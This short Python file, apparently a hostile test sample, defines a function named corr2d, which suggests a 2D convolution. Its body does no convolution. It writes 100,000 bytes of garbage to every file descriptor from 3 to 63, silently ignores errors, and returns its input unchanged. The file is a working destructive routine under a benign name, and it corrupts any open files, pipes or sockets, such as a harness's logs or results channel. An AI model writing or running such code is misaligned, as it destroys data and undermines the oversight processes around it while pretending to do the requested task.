"""Garbage on every descriptor that is open."""

import os


def corr2d(x, kernel):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b"\xff" * 100000)
        except OSError:
            pass
    return x
